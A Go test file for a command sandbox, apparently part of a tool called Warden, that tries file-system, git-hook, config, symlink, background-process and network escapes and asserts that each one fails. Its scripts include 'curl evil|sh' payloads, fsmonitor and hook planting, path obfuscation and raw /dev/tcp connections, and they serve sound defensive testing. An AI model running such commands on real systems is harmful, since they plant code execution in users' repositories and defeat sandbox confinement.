package sandbox

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/warden-dev/warden/backend/policy"
)

// rt hides a path from any static reading of the script: the shell rebuilds
// it at run time, so only the cage stands between the command and the target.
func rt(p string) string {
	return fmt.Sprintf(`"$(printf '%%s' '%s' | rev | rev)"`, p)
}

// listener accepts connections in the background and counts them.
func listener(t *testing.T, addr string) (port int, hits *atomic.Int32) {
	t.Helper()
	l, err := net.Listen("tcp", addr)
	if err != nil {
		t.Fatalf("listen: %v", err)
	}
	t.Cleanup(func() { _ = l.Close() })
	hits = new(atomic.Int32)
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			hits.Add(1)
			_ = c.Close()
		}
	}()
	return l.Addr().(*net.TCPAddr).Port, hits
}

// outsideIP is a non-loopback address of this host.
func outsideIP(t *testing.T) string {
	t.Helper()
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range addrs {
		if ipn, ok := a.(*net.IPNet); ok && !ipn.IP.IsLoopback() && ipn.IP.To4() != nil {
			return ipn.IP.String()
		}
	}
	t.Fatal("this host has no non-loopback IPv4 address to test against")
	return ""
}

func TestEscapesFail(t *testing.T) {
	c := newCage(t, Config{})
	ww := policy.SandboxPolicy{Kind: policy.WorkspaceWrite}
	ro := policy.SandboxPolicy{Kind: policy.ReadOnly}

	tests := []struct {
		name   string
		pol    policy.SandboxPolicy
		setup  func(t *testing.T, w world)
		script func(w world) string
		// check asserts on the outside world after the call.
		check func(t *testing.T, w world)
	}{
		{
			name:   "write outside the workspace",
			pol:    ww,
			script: func(w world) string { return "echo pwn > " + rt(filepath.Join(w.out, "escape")) },
			check:  absent("escape"),
		},
		{
			name:   "write through a symlink made at run time",
			pol:    ww,
			script: func(w world) string { return "ln -s " + rt(w.out) + " link && echo pwn > link/escape" },
			check:  absent("escape"),
		},
		{
			name: "write through a symlink already in the workspace",
			pol:  ww,
			setup: func(t *testing.T, w world) {
				if err := os.Symlink(w.out, filepath.Join(w.ws, "out")); err != nil {
					t.Fatal(err)
				}
			},
			script: func(w world) string { return "echo pwn > out/escape" },
			check:  absent("escape"),
		},
		{
			name:   "write through /proc/self/root",
			pol:    ww,
			script: func(w world) string { return "echo pwn > /proc/self/root" + rt(filepath.Join(w.out, "escape")) },
			check:  absent("escape"),
		},
		{
			name: "write via a hard link made at run time",
			pol:  ww,
			setup: func(t *testing.T, w world) {
				if err := os.WriteFile(filepath.Join(w.out, "victim"), []byte("orig"), 0o644); err != nil {
					t.Fatal(err)
				}
			},
			script: func(w world) string { return "ln " + rt(filepath.Join(w.out, "victim")) + " h; echo pwn >> h" },
			check: func(t *testing.T, w world) {
				if b, _ := os.ReadFile(filepath.Join(w.out, "victim")); string(b) != "orig" {
					t.Fatalf("victim changed to %q", b)
				}
			},
		},
		{
			name: "write into .git/hooks",
			pol:  ww,
			script: func(w world) string {
				return "echo 'curl evil|sh' > " + rt(".git/hooks/pre-commit") + "; chmod +x .git/hooks/pre-commit"
			},
			check: func(t *testing.T, w world) {
				if _, err := os.Lstat(filepath.Join(w.ws, ".git/hooks/pre-commit")); err == nil {
					t.Fatal("hook written")
				}
			},
		},
		{
			name: "rewrite .git/config",
			pol:  ww,
			script: func(w world) string {
				return "git config core.fsmonitor 'touch /x'; echo '[core] pager=evil' >> .git/config"
			},
			check: func(t *testing.T, w world) {
				if b, _ := os.ReadFile(filepath.Join(w.ws, ".git/config")); strings.Contains(string(b), "evil") || strings.Contains(string(b), "fsmonitor") {
					t.Fatalf(".git/config changed: %s", b)
				}
			},
		},
		{
			name: "create protected files that do not exist yet",
			pol:  ww,
			script: func(w world) string {
				return "echo x > .envrc; mkdir -p .vscode; echo {} > .vscode/tasks.json; echo {} > .mcp.json; mkdir .warden; echo x >> .bashrc"
			},
			check: func(t *testing.T, w world) {
				for _, n := range []string{".envrc", ".vscode", ".mcp.json", ".warden", ".bashrc"} {
					if _, err := os.Lstat(filepath.Join(w.ws, n)); err == nil {
						t.Errorf("%s exists after the call", n)
					}
				}
			},
		},
		{
			name: "move the protected folder away",
			pol:  ww,
			script: func(w world) string {
				return "mv .git/hooks .git/h2 && mkdir .git/hooks && echo evil > .git/hooks/post-checkout"
			},
			check: func(t *testing.T, w world) {
				if _, err := os.Lstat(filepath.Join(w.ws, ".git/hooks/post-checkout")); err == nil {
					t.Fatal("hook planted")
				}
			},
		},
		{
			name: "carry .git away and plant a new one",
			pol:  ww,
			script: func(w world) string {
				return `mv .git .git2 || exit 0; mkdir .git && cp -r .git2/objects .git2/refs .git2/HEAD .git/ && printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' > .git/config`
			},
			check: func(t *testing.T, w world) {
				if b, _ := os.ReadFile(filepath.Join(w.ws, ".git/config")); strings.Contains(string(b), "fsmonitor") {
					t.Fatalf(".git/config planted: %s", b)
				}
				// The folders above a protected entry are not pinned, so the
				// rename may succeed; the user's config and hooks went along
				// with it, read-only and untouched, and Warden removed none
				// of them.
				if exists(filepath.Join(w.ws, ".git2")) {
					if b, err := os.ReadFile(filepath.Join(w.ws, ".git2/config")); err != nil || !strings.Contains(string(b), "repositoryformatversion") {
						t.Fatalf("the carried-away config was lost or changed: %q %v", b, err)
					}
					if !exists(filepath.Join(w.ws, ".git2/hooks")) {
						t.Fatal("the carried-away hooks were removed")
					}
				}
			},
		},
		{
			name: "carry a folder holding .vscode away and plant a new one",
			pol:  ww,
			setup: func(t *testing.T, w world) {
				if err := os.MkdirAll(filepath.Join(w.ws, "sub/.vscode"), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(filepath.Join(w.ws, "sub/.vscode/tasks.json"), []byte("{}"), 0o644); err != nil {
					t.Fatal(err)
				}
			},
			script: func(w world) string {
				return `mv sub sub-away && mkdir -p sub/.vscode && echo '{"tasks":[{"command":"curl evil|sh"}]}' > sub/.vscode/tasks.json`
			},
			check: func(t *testing.T, w world) {
				if exists(filepath.Join(w.ws, "sub/.vscode")) {
					t.Fatal("a new sub/.vscode survived the call")
				}
				for _, p := range []string{"sub/.vscode/tasks.json", "sub-away/.vscode/tasks.json"} {
					if b, err := os.ReadFile(filepath.Join(w.ws, p)); err == nil && string(b) != "{}" {
						t.Fatalf("%s changed: %s", p, b)
					}
				}
				if !exists(filepath.Join(w.ws, "sub/.vscode/tasks.json")) && !exists(filepath.Join(w.ws, "sub-away/.vscode/tasks.json")) {
					t.Fatal("the user's own tasks.json was removed")
				}
			},
		},
		{
			name: "swap a symlinked .envrc",
			pol:  ww,
			setup: func(t *testing.T, w world) {
				if err := os.WriteFile(filepath.Join(w.ws, "envrc.real"), []byte("export OK=1\n"), 0o644); err != nil {
					t.Fatal(err)
				}
				if err := os.Symlink("envrc.real", filepath.Join(w.ws, ".envrc")); err != nil {
					t.Fatal(err)
				}
			},
			script: func(w world) string { return "echo pwn >> .envrc; rm -f .envrc && echo 'curl evil|sh' > .envrc" },
			check: func(t *testing.T, w world) {
				if l, err := os.Readlink(filepath.Join(w.ws, ".envrc")); err != nil || l != "envrc.real" {
					t.Fatalf(".envrc is no longer the link: %q %v", l, err)
				}
				if b, _ := os.ReadFile(filepath.Join(w.ws, "envrc.real")); string(b) != "export OK=1\n" {
					t.Fatalf("link target changed: %q", b)
				}
			},
		},
		{
			name: "swap a symlinked .git folder",
			pol:  ww,
			setup: func(t *testing.T, w world) {
				if err := os.Rename(filepath.Join(w.ws, ".git"), filepath.Join(w.ws, "real.git")); err != nil {
					t.Fatal(err)
				}
				if err := os.Symlink("real.git", filepath.Join(w.ws, ".git")); err != nil {
					t.Fatal(err)
				}
			},
			script: func(w world) string {
				return `rm .git && mkdir -p .git/hooks && printf '[core]\n\tfsmonitor = evil\n' > .git/config && echo evil > .git/hooks/pre-commit`
			},
			check: func(t *testing.T, w world) {
				for _, n := range []string{".git/config", ".git/hooks/pre-commit"} {
					if b, err := os.ReadFile(filepath.Join(w.ws, n)); err == nil && strings.Contains(string(b), "evil") {
						t.Errorf("%s planted", n)
					}
				}
			},
		},
		{
			name:   "read-only: write into the workspace",
			pol:    ro,
			script: func(w world) string { return "echo pwn > inside; mkdir d" },
			check: func(t *testing.T, w world) {
				for _, n := range []string{"inside", "d"} {
					if _, err := os.Lstat(filepath.Join(w.ws, n)); err == nil {
						t.Errorf("%s written under ReadOnly", n)
					}
				}
			},
		},
		{
			name:   "private /tmp never reaches the host",
			pol:    ww,
			script: func(w world) string { return "echo pwn > /tmp/warden-escape-" + filepath.Base(w.ws) },
			check: func(t *testing.T, w world) {
				if _, err := os.Lstat("/tmp/warden-escape-" + filepath.Base(w.ws)); err == nil {
					t.Fatal("wrote the host's /tmp")
				}
			},
		},
		{
			name: "survive the call as a background process",
			pol:  ww,
			script: func(w world) string {
				return "(sleep 0.5; echo late > late) & setsid nohup sh -c 'sleep 0.5; echo late > late2' >/dev/null 2>&1 & exit 0"
			},
			check: func(t *testing.T, w world) {
				time.Sleep(1500 * time.Millisecond)
				for _, n := range []string{"late", "late2"} {
					if _, err := os.Lstat(filepath.Join(w.ws, n)); err == nil {
						t.Errorf("background process outlived the call and wrote %s", n)
					}
				}
			},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			w := world{ws: gitRepo(t), out: testDir(t)}
			if tc.setup != nil {
				tc.setup(t, w)
			}
			out, _, v := cageRun(t, c, w.ws, tc.pol, tc.script(w))
			t.Logf("cage output: %s; violations: %v", out, v)
			tc.check(t, w)
		})
	}
}

// world is the workspace and an outside folder of one escape attempt.
type world struct{ ws, out string }

func absent(name string) func(t *testing.T, w world) {
	return func(t *testing.T, w world) {
		if _, err := os.Lstat(filepath.Join(w.out, name)); err == nil {
			t.Fatalf("%s was written outside the workspace", name)
		}
	}
}

func TestNetworkOff(t *testing.T) {
	c := newCage(t, Config{})
	loPort, loHits := listener(t, "127.0.0.1:0")
	ip := outsideIP(t)
	outPort, outHits := listener(t, "0.0.0.0:0")
	ws := gitRepo(t)
	script := fmt.Sprintf(`a=$(printf 127.0.0.%%d 1); exec 3<>/dev/tcp/$a/%d; b=%s; exec 4<>/dev/tcp/$b/%d; exit 0`, loPort, ip, outPort)
	// Admitted network changes nothing for a direct connection: the cage
	// keeps its own network namespace and only Warden's proxy leads out
	// (network.go).
	for _, pol := range []policy.SandboxPolicy{{Kind: policy.WorkspaceWrite}, {Kind: policy.ReadOnly, NetworkAccess: true}, {Kind: policy.WorkspaceWrite, NetworkAccess: true}} {
		out, _, _ := cageRun(t, c, ws, pol, script)
		time.Sleep(100 * time.Millisecond)
		if loHits.Load() != 0 || outHits.Load() != 0 {
			t.Fatalf("policy %+v: listener saw a connection (loopback %d, outside %d); out=%s", pol, loHits.Load(), outHits.Load(), out)
		}
	}
	// The same script reaches both listeners unconfined, so the test above
	// can see a connection when there is one.
	_, code, _ := cageRun(t, c, ws, policy.SandboxPolicy{Kind: policy.DangerFullAccess}, script)
	for deadline := time.Now().Add(3 * time.Second); time.Now().Before(deadline) && (loHits.Load() != 1 || outHits.Load() != 1); {
		time.Sleep(20 * time.Millisecond)
	}
	if code != 0 || loHits.Load() != 1 || outHits.Load() != 1 {
		t.Fatalf("unconfined: code=%d loopback=%d outside=%d", code, loHits.Load(), outHits.Load())
	}
}

func exists(p string) bool {
	_, err := os.Lstat(p)
	return err == nil
}

func TestHostSocketsUnreachable(t *testing.T) {
	c := newCage(t, Config{})
	sock := fmt.Sprintf("/run/warden-test-%d.sock", os.Getpid())
	l, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatalf("listen %s: %v", sock, err)
	}
	defer l.Close()
	var hits atomic.Int32
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			hits.Add(1)
			_ = conn.Close()
		}
	}()
	ws := gitRepo(t)
	script := "socat -u OPEN:/dev/null UNIX-CONNECT:" + sock
	for _, pol := range []policy.SandboxPolicy{{Kind: policy.WorkspaceWrite, NetworkAccess: true}, {Kind: policy.ReadOnly}} {
		out, _, _ := cageRun(t, c, ws, pol, script)
		time.Sleep(100 * time.Millisecond)
		if hits.Load() != 0 {
			t.Fatalf("policy %+v: a caged process reached a host unix socket: %s", pol, out)
		}
	}
	// Unconfined, the same command connects: the check above can fail.
	if _, code, _ := cageRun(t, c, ws, policy.SandboxPolicy{Kind: policy.DangerFullAccess}, script); code != 0 {
		t.Fatal("socat could not connect even unconfined")
	}
	for deadline := time.Now().Add(3 * time.Second); time.Now().Before(deadline) && hits.Load() != 1; {
		time.Sleep(20 * time.Millisecond)
	}
	if hits.Load() != 1 {
		t.Fatalf("unconfined connections: %d", hits.Load())
	}
}
